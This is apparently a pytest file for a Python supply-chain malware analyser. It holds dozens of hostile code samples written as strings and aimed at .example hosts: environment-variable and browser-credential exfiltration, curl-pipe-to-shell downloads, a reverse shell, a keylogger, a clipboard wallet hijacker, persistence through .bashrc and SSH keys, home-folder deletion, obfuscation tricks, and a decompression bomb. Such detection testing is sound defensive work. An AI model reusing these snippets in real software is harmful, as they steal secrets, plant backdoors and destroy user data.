"""What the analyser sees in code: variants of hostile techniques, and honest code that resembles them.

Nothing here is ever run; hosts end in `.example`.
"""

from __future__ import annotations

import base64
import codecs
import random
import sys
import zlib
from collections.abc import Mapping

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mlsupply.evidence.explained.mapping import without_questions
from mlsupply.evidence.facets import CodeFact, Moment
from mlsupply.evidence.layout import layout_of
from mlsupply.evidence.moments import placed
from mlsupply.evidence.package import PackageFacts
from mlsupply.evidence.prefilter.choice import worth_parsing
from mlsupply.evidence.python import analyse
from mlsupply.evidence.python.models import no_model_knows
from mlsupply.model import Severity
from mlsupply.request import RuleSettings
from mlsupply.ruleset import load
from tests.code_pieces import source
from tests.conftest import NOW

STEAL = "import os,json,urllib.request as u\nu.urlopen('https://c.example/x',data=json.dumps(dict(os.environ)).encode())\n"
B64 = base64.b64encode(STEAL.encode()).decode()
PACKED = base64.b64encode(zlib.compress(STEAL.encode())).decode()


def seen(files: Mapping[str, str]) -> list[CodeFact]:
    """The facts of a source tree."""
    shape = layout_of(files, {path: text.encode() for path, text in files.items()})
    modules = []
    for path, text in files.items():
        if path.endswith(".py"):
            modules.append(analyse.module(path, text.encode(), shape.inner(path)))
        elif path.endswith(".pth"):
            modules.append(analyse.pth(path, text.encode()))
    return placed(without_questions(modules, {path: text.encode() for path, text in files.items()}), shape)


# What may as well be meant is told, and accuses nobody.
TOLD_ONLY = frozenset({"MLS-C071"})


def found(files: Mapping[str, str]) -> set[str]:
    """Ids of the findings of medium or more, and of those that are only told."""
    from mlsupply.evidence.contents import judged

    said = judged(PackageFacts(subject="demo", code=tuple(seen(files))), load(RuleSettings(), NOW))
    accused = {finding.id for finding in said.findings if finding.severity.rank >= Severity.MEDIUM.rank}
    return accused | TOLD_ONLY.intersection(finding.id for finding in said.findings)


def init(text: str) -> dict[str, str]:
    return {"pyproject.toml": "", "demo/__init__.py": text}


def setup(text: str) -> dict[str, str]:
    return {"setup.py": "from setuptools import setup\n" + text + "\nsetup(name='demo')\n"}


def test_what_is_not_python_is_said_with_its_line() -> None:
    stopped = analyse.module("a.py", b"import os\nprint 'x'\n").stopped
    assert stopped.startswith(f"not Python {sys.version_info.major}.{sys.version_info.minor}: ")
    assert stopped.endswith(", line 2")


ROT = codecs.encode("import os;os.system('curl -s https://r.example/a | sh')", "rot13")
XORED = [byte ^ 73 for byte in b"__import__('os').system('curl -s https://x.example/a | sh')"]

VARIANTS = {
    "names joined from pieces": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "names from a namespace": "__builtins__.__dict__['ev' + 'al']('1')",
    "names from globals": "globals()['__buil' + 'tins__'].exec('import os')",
    "names through sys.modules": "import sys, subprocess\nsys.modules['subpro' + 'cess'].run('id', shell=True)",
    "rot13": f"import codecs\nexec(codecs.decode({ROT!r}, 'rot13'))",
    "a list of numbers": f"exec(''.join(chr(c) for c in {[ord(c) for c in STEAL]}))",
    "xor by a function": f"def d(v, k):\n    out = ''\n    for c in v:\n        out += chr(c ^ k)\n    return "
    f"out\neval(d({XORED}, 73))",
    "xor by a loop of bytes": f"exec(bytearray(c ^ 73 for c in bytes({XORED})))",
    "reversed hex": f"exec(bytes.fromhex('{STEAL.encode().hex()[::-1]}'[::-1]))",
    "map and lambda": f"exec(''.join(map(lambda c: chr(c ^ 73), {XORED})))",
    "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA' * 20))",
    "marshal": "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
    "a docstring": f'"""{B64}"""\nimport base64\nexec(base64.b64decode(__doc__))',
    "a function's docstring": f'def f():\n    """{B64}"""\nimport base64\nexec(base64.b64decode(f.__doc__))',
    "a default argument": "def f(x=__import__('os').system('curl https://d.example/a|bash')): pass",
    "a decorator": "import os\ndef d(f):\n    os.system('curl -s https://d.example/a|sh')\n    return f\n@d\ndef g(): pass",
    "a metaclass": (
        "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('curl -s https://d.example/a|sh')\n"
        "class A(metaclass=M): pass"
    ),
    "an object that is made": (
        "import os\nclass A:\n    def __init__(self):\n        self.go()\n    def go(self):\n"
        "        os.system('curl -s https://d.example/a|sh')\nA()"
    ),
    "a property": (
        "import os\nclass A:\n    @property\n    def x(self):\n        os.system('curl -s https://d.example/a|sh')\nA().x"
    ),
    "a context manager": (
        "import os\nclass A:\n    def __enter__(self):\n        os.system('curl -s https://d.example/a|sh')\nwith A(): pass"
    ),
    "a thread class": (
        "import os, threading\nclass T(threading.Thread):\n    def run(self):\n        os.system('curl "
        "https://d.example/a|sh')\n"
        "T().start()"
    ),
    "an atexit handler": "import atexit, os\natexit.register(lambda: os.system('curl -s https://d.example/a|sh'))",
    "a temporary file": (
        "import subprocess, sys, tempfile, base64\n"
        f"with tempfile.NamedTemporaryFile('wb', suffix='.py', delete=False) as f:\n    f.write(base64.b64decode('{B64}'))\n"
        "subprocess.run([sys.executable, f.name])"
    ),
    "standard input": (
        f"import subprocess, sys, base64\nsubprocess.run([sys.executable, '-'], input=base64.b64decode('{B64}'))"
    ),
    "PowerShell": (
        "import subprocess\nsubprocess.run('powershell -w hidden -enc "
        + base64.b64encode("iex (irm https://p.example/a)".encode("utf-16-le")).decode()
        + "', shell=True)"
    ),
    "an import hook on a download": (
        "import urllib.request, sys, zipimport\nurllib.request.urlretrieve('https://z.example/a.zip', '/tmp/a.zip')\n"
        "zipimport.zipimporter('/tmp/a.zip').load_module('a')"
    ),
    "a library loaded from a download": (
        "import ctypes, requests\nopen('/tmp/x.so', 'wb').write(requests.get('https://l.example/x').content)\n"
        "ctypes.CDLL('/tmp/x.so')"
    ),
    "a text record of DNS": "import dns.resolver\nexec(str(dns.resolver.resolve('c.example', 'TXT')[0]))",
    "a reverse shell": (
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('h.example', 9001))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])"
    ),
    "browser stores to a webhook": (
        "import os, requests, shutil\nsrc = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', "
        "'User Data', 'Default',"
        " 'Login Data')\nshutil.copy(src, 'x.db')\n"
        "requests.post('https://h.example/api/webhooks/123456789012/abcdefghijkl', files={'f': open('x.db', 'rb')})"
    ),
    "the clipboard replaced": (
        "import pyperclip, re, time\ndef go():\n    while True:\n        if re.match('^0x', pyperclip.paste()):\n"
        "            pyperclip.copy('0x52908400098527886E0F7030069857D2E4169EE7')\ngo()"
    ),
    "keys listened to": (
        "from pynput import keyboard\nimport requests\n"
        "def on(k):\n    requests.post('https://k.example', data=str(k))\nkeyboard.Listener(on_press=on).start()"
    ),
    "shell code": (
        "import ctypes\np = ctypes.windll.kernel32.VirtualAlloc(0, 99, 0x3000, 0x40)\n"
        "ctypes.windll.kernel32.RtlMoveMemory(p, b'x', 1)"
    ),
    "a start file of the shell": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s "
        "https://s.example/a | sh\\n')"
    ),
    "a service": (
        "from pathlib import Path\n(Path.home() / '.config/systemd/user' / 'mon.service').write_text('ExecStart=python3 x')"
    ),
    "a key for ssh": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-ed25519 AAAA x')",
    "the home folder removed": "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))",
    "traffic led elsewhere": "import os\nos.environ['OPENAI_BASE_URL'] = 'https://llm.example.net/v1'",
    "a data file of the package": "import os\nexec(open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read())",
    "a data file through resources": (
        "from importlib.resources import files\nexec(files(__name__).joinpath('x.bin').read_bytes())"
    ),
    "a decoder with a while loop": (
        "def f(s):\n    r, i = '', 0\n    while i < len(s):\n        r += chr(ord(s[i]) - 1)\n        i "
        "+= 1\n    return r\nexec(f('jnqpsu'))"
    ),
    "a pickle that calls": "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")",
    "executable memory": (
        "import mmap\nm = mmap.mmap(-1, 64, prot=mmap.PROT_READ | mmap.PROT_EXEC)\nm.write(b'x')\nimport ctypes"
    ),
    "the classes of object": (
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0].__init__.__globals__['system']('id')"
    ),
    "the module of a builtin function": (
        "print.__self__.exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d2822696422290a'))"
    ),
    "the module of a builtin function by a name put together": (
        "import base64\ngetattr(print.__self__, 'ex' + 'ec')(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"
    ),
    "builtins that another module holds": (
        "import base64, inspect\ninspect.builtins.exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"
    ),
    "a tracer": "import sys, requests\ndef t(f, e, a):\n    requests.post('https://t.example', "
    "data=str(f.f_locals))\nsys.settrace(t)",
    "a key that is passed in": (
        "import requests\nclass Wallet:\n    def __init__(self, private_key):\n"
        "        requests.post('https://w.example', json={'k': private_key})"
    ),
    "files of the user removed one by one": (
        "import os\nfor r, _, fs in os.walk(os.path.expanduser('~')):\n    for f in fs:\n        "
        "os.remove(os.path.join(r, f))"
    ),
    "a shell in a function": "import os\ndef prepare():\n    os.system('curl -s https://s.example/x.sh | bash')",
    "a module that acts when used": (
        "import sys, os\nclass L:\n    def __getattr__(self, n):\n        os.system('curl https://l.example/a|sh')\n"
        "sys.modules[__name__] = L()"
    ),
    "look-alike letters": "\U0001d626\U0001d639\U0001d626\U0001d624('import os')",
    "far to the right": "import os" + " " * 150 + ";exec(input())",
    "a secret through a thread": (
        "import os, threading, urllib.request\ndef send(x):\n    urllib.request.urlopen('https://t.example/' + x)\n"
        "threading.Thread(target=send, args=(os.environ['AWS_SECRET_ACCESS_KEY'],)).start()"
    ),
    "a program that sends": (
        "import os, subprocess\nsubprocess.run(['curl', '-d', "
        "open(os.path.expanduser('~/.npmrc')).read(), 'https://c.example'])"
    ),
    "cloud metadata": (
        "import urllib.request as u\nr = u.urlopen('http://169.254.169.254/latest/meta-data/iam/').read()\n"
        "u.urlopen('https://m.example/c', data=r)"
    ),
}


@pytest.mark.parametrize("text", VARIANTS.values(), ids=VARIANTS)
def test_a_variant_is_found_and_the_prefilter_lets_it_through(text: str) -> None:
    assert worth_parsing(text.encode())
    assert found(init(text))


HONEST = {
    "a template engine": "def render(s, ns):\n    exec(compile(s, '<t>', 'exec'), ns)",
    "a data table": f"import base64, zlib\nNAMES = zlib.decompress(base64.b64decode('{PACKED[:40]}' + 'AAAA'))",
    "a client with its key": (
        "import os, requests\nclass C:\n    def __init__(self, key=None):\n        self.key = key or "
        "os.environ['ACME_API_KEY']\n"
        "    def ask(self, q):\n        return requests.post('https://api.acme.example/v1', json={'q': q},"
        " headers={'Authorization': self.key}).json()"
    ),
    "a token kept in a file": (
        "import os, requests\ndef me():\n    t = open(os.path.expanduser('~/.cache/huggingface/token')).read()\n"
        "    return requests.get('https://hub.example/me', headers={'authorization': 'Bearer ' + t})"
    ),
    "a version check": "import urllib.request, json\ndef latest():\n    return "
    "json.load(urllib.request.urlopen('https://i.example/j'))",
    "a build that asks the compiler": "import subprocess\ndef v():\n    return subprocess.check_output(['nvcc', '-V'])\nv()",
    "an agent's shell": "import subprocess\ndef run(c):\n    return subprocess.run(c, shell=True, "
    "capture_output=True).stdout",
    "an installer of completions": (
        "from pathlib import Path\ndef install():\n    (Path.home() / '.bashrc').open('a').write('eval \"$(x complete)\"')"
    ),
    "a model download with a digest": (
        "import hashlib, subprocess, requests, os\ndef get():\n    open('/tmp/m', "
        "'wb').write(requests.get('https://m.example').content)\n"
        "    if hashlib.sha256(open('/tmp/m', 'rb').read()).hexdigest() != 'ab':\n        raise ValueError\n"
        "    return subprocess.Popen(['/tmp/m'], stdout=subprocess.DEVNULL)"
    ),
    "a session with retries": (
        "import requests\n_s = requests.Session.send\ndef send(self, r, **k):\n    return _s(self, r, "
        "**k)\nrequests.Session.send = send"
    ),
    "comments far to the right": "A = 1" + " " * 200 + "# the first\nB = 2",
    "letters of physics": "import subprocess\nħ = 1.05\ndef énergie(ω):\n    return ħ * ω",
}


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST)
def test_honest_code_that_resembles_them_stays_quiet(text: str) -> None:
    assert not found(init(text))


def test_the_moment_follows_calls_from_file_to_file() -> None:
    helper = "import os\ndef go():\n    os.system('echo')\n"
    called = {"demo/__init__.py": "from .late import go\ngo()\n", "demo/late.py": helper}
    imported = {"demo/__init__.py": "from .late import go\n", "demo/late.py": helper}
    assert [fact.moment for fact in seen(called)] == [Moment.IMPORT]
    assert [fact.moment for fact in seen(imported)] == [Moment.CALL]
    started = {"x.pth": "import demo.late; demo.late.go()\n", "demo/__init__.py": "", "demo/late.py": helper}
    assert {fact.moment for fact in seen(started) if fact.behaviour == "runs-command"} == {Moment.START}


def test_only_commands_that_an_installation_runs_count_as_installation() -> None:
    text = (
        "import os\nfrom setuptools import Command\nclass X(Command):\n    def run(self):\n        "
        "os.system('twine check')\n"
    )
    for name, moment in (("upload", Moment.CALL), ("build_py", Moment.INSTALL)):
        (fact,) = seen({"setup.py": f"{text}from setuptools import setup\nsetup(cmdclass={{'{name}': X}})"})
        assert fact.moment is moment


def test_a_source_is_built_also_where_its_folder_is_the_package() -> None:
    backend = "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['.']\n"
    source = {
        "demo-1.0/__init__.py": "",
        "demo-1.0/pyproject.toml": backend,
        "demo-1.0/backend.py": "import os\ndef build_wheel(*told):\n    os.system('make')\n",
    }
    assert [fact.moment for fact in seen(source)] == [Moment.INSTALL]
    alone = {"demo/__init__.py": "", "demo/backend.py": source["demo-1.0/backend.py"]}
    assert [fact.moment for fact in seen(alone)] == [Moment.CALL]


def test_a_finding_tells_the_way_from_source_to_sink_and_what_was_decoded() -> None:
    (fact,) = (f for f in seen(init(f"import base64\nexec(base64.b64decode('{B64}'))")) if f.behaviour == "sends")
    assert (fact.source, fact.destination, fact.layers, fact.line) == ("environment", "fixed", ("base64",), 2)
    assert fact.chain == ("environment all variables (line 2)", "urllib.request.urlopen (line 2)")
    assert fact.decoded.startswith("import os,json")


@pytest.mark.parametrize(
    "text",
    [
        "x = " + "-" * 100_000 + "1",
        "(" * 5_000,
        "a" + ".b" * 50_000,
        "x = '" + "a" * (6 << 20) + "'",
        "exec(" + "+".join(["chr(1)"] * 2_000) + ")",
        "import os\n" + "def f(): f()\n" * 2_000 + "f()",
        "x = 'a' * 10 ** 10\ny = '%9999999999d' % 1\nz = 2 ** 10 ** 9\nexec(x + y)",
        "import re, os\nos.system('" + "curl " * 3_000 + "')",
        "exec(" + repr("exec(" * 200 + "1" + ")" * 200) + ")",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('"
        + base64.b64encode(zlib.compress(b"\0" * (64 << 20))).decode()
        + "')))",
        "\0\0\xff",
        "# -*- coding: no-such-codec -*-\nexec('')",
    ],
    ids=["minus", "brackets", "dots", "string", "sum", "recursion", "numbers", "regex", "nested", "bomb", "nul", "codec"],
)
def test_sources_made_to_break_a_parser_end_with_facts_or_a_reason(text: str) -> None:
    facts = analyse.module("demo/__init__.py", text.encode("utf-8", "surrogatepass"))
    assert facts.facts or facts.stopped or "exec" in text or "os.system" in text or "def f" in text or "aaa" in text


@given(st.integers(min_value=0))
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_whatever_the_code_the_analyser_ends_and_raises_nothing(seed: int) -> None:
    analyse.module("demo/__init__.py", source(random.Random(seed)).encode())


def test_a_path_nobody_knows_is_not_taken_for_one_that_is_gone() -> None:
    """What is told apart by identity alone is kept, so that no other value comes to have the same."""
    text = "import requests, subprocess\n\ndef fetch(a):\n    open(a.place(), 'wb').write(requests.get('https://x.example/a').content)\n"
    text += "".join(f"\ndef run{i}(b):\n    x = b.other{i}()\n    subprocess.run([b.tool(), x])\n" for i in range(40))
    facts = analyse.module("demo/a.py", text.encode()).facts
    assert {fact.behaviour for fact, _ in facts} == {"contacts", "runs-command"}


def test_models_are_asked_again_about_a_name_that_their_answer_does_not_hang_on_alone() -> None:
    """The first `pack` is turned down for what it is given, not for its name."""
    text = "import struct, subprocess, uuid\n\ndef first(a):\n    struct.pack(a)\n    uuid.UUID(a)\n\n"
    text += "exec(struct.pack('5s', b'x = 1'))\n"
    facts = analyse.module("demo/a.py", text.encode()).facts
    assert ("runs-decoded", ("integers",)) in {(fact.behaviour, fact.layers) for fact, _ in facts}


def test_the_models_are_asked_once_about_a_name_that_is_none_of_theirs() -> None:
    """Most calls of a package are of such; a model that looks at more than their name first makes each of them dear."""
    names = (
        "rich.print",
        "rich.Tree().add",
        "rich.Tree().get",
        "fastapi.FastAPI().get",
        "numpy.zeros",
        "typing.get_type_hints",
    )
    assert [name for name in names if not no_model_knows(name)] == []


def test_a_name_is_modelled_where_the_models_look_at_what_is_around_the_call() -> None:
    """A client is none to its own library, and memory is mapped for foreign code where the module takes a further step."""
    names = ("redis.Redis().set", "ctypes.windll.kernel32.VirtualAlloc", "struct.pack", "subprocess.run", "builtins.len")
    assert [name for name in names if no_model_knows(name)] == []


def test_a_logging_handler_is_followed_by_whatever_name_and_a_class_of_that_name_is_not() -> None:
    def followed(imported: str, made: str) -> bool:
        """What a function calls is known where it is followed."""
        text = (
            f"import logging\n{imported}\n\ndef report(name):\n    logging.getLogger(name).addHandler({made}('c.example'))\n"
        ) + "# of a module of some length\n" * 120
        return any(root == "report" for root, _ in analyse.module("demo/a.py", text.encode()).edges)

    assert followed("from logging.handlers import HTTPHandler as Sink", "Sink")
    assert followed("from logging.handlers import HTTPHandler", "HTTPHandler")
    assert followed("import logging.handlers", "logging.handlers.HTTPHandler")
    assert not followed("from .sinks import HTTPHandler", "HTTPHandler")


@pytest.mark.parametrize("call", ["int(base=8)", "float(**given)", "iter(callable=print)", "chr(i=1)", "sorted(key=len)"])
def test_a_call_that_python_refuses_does_not_end_the_look(call: str) -> None:
    assert found(init(f"try:\n    {call}\nexcept Exception:\n    pass\n" + STEAL))


@pytest.mark.parametrize("part", ["'a':", ":b''", "None:1.5", "{}:"])
def test_a_slice_that_python_refuses_does_not_end_the_look(part: str) -> None:
    text = f"import os\ntry:\n    [os.environ, os.getcwd()][{part}]\nexcept TypeError:\n    {STEAL.splitlines()[1]}\n"
    assert any(fact.behaviour == "sends" for fact in seen({"demo/__init__.py": "import json, urllib.request as u\n" + text}))


def test_text_that_no_file_can_hold_does_not_end_the_look() -> None:
    text = "import base64, subprocess\nCODE = '\\ud800\\udcff' + base64.b64decode('cHJpbnQoMSk7cHJpbnQoMik7').decode()\n"
    run = "open('/tmp/a.py', 'w', errors='replace').write(CODE)\nsubprocess.run(['python3', '/tmp/a.py'])\n"
    assert {"MLS-C010"} < found(init(text + run + STEAL))


def test_a_text_with_a_default_is_split_as_often_as_the_code_says() -> None:
    text = (
        "import os, requests\nat = os.environ.get('AT', 'a.example:80:x')\nrequests.get('https://' + at.rsplit(':', 1)[0])\n"
    )
    facts = [fact for fact, _ in analyse.module("demo/__init__.py", text.encode()).facts]
    assert [fact.detail for fact in facts if fact.behaviour == "contacts"] == ["https://a.example:80"]
